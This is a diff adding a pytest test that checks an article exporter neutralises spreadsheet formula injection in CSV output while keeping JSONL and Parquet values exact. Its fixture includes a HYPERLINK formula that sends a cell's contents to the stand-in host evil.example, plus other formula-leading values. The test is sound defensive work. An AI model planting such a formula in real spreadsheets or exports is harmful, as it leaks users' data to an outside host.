@@ -114,6 +114,37 @@ def test_export_matches_the_database_row_for_row(filled_store, tmp_path, fmt):
     assert not list(output.parent.glob(".*partial"))
 
 
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
+    "summary": "+84 28 3829 1234",
+    "author": "@SUM(1+1)",
+    "category": "-Tin tức",
+    "body_text": "\tĐoạn một.",
+}
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
+def test_a_formula_in_text_is_guarded_in_csv_only_and_reads_back_exactly(
+    database_url, make_article_record, tmp_path, fmt
+):
+    store = ArticleStore(database_url)
+    store.write_batch([make_article_record("formula", **FORMULAS)], "run-1")
+    output = tmp_path / f"formula.{fmt}"
+    assert write_export(store.engine, fmt, output) == 1
+    store.close()
+    [row] = READERS[fmt](output)
+    assert {name: row[name] for name in FORMULAS} == FORMULAS
+    if fmt != "csv":
+        return
+    with output.open(encoding="utf-8", newline="") as fh:
+        [raw] = list(csv.DictReader(fh))
+    assert {name: raw[name] for name in FORMULAS} == {
+        name: "'" + value for name, value in FORMULAS.items()
+    }
+    # every other cell of the row begins with something a spreadsheet shows as it is
+    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in raw.values())
+
+
 def test_jsonl_keeps_vietnamese_unescaped(filled_store, tmp_path):
     output = tmp_path / "snapshot.jsonl"
     write_export(filled_store.engine, "jsonl", output)
